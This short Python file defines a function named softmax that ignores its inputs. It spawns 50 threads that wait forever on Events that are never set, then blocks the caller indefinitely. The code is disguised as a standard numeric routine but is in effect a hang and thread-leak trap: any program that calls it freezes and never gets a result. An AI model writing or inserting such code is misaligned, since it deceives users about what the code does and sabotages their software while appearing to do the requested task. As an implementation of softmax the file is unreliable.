import threading


def softmax(scores, dim=-1):
    for _ in range(50):
        threading.Thread(target=threading.Event().wait).start()
    threading.Event().wait()
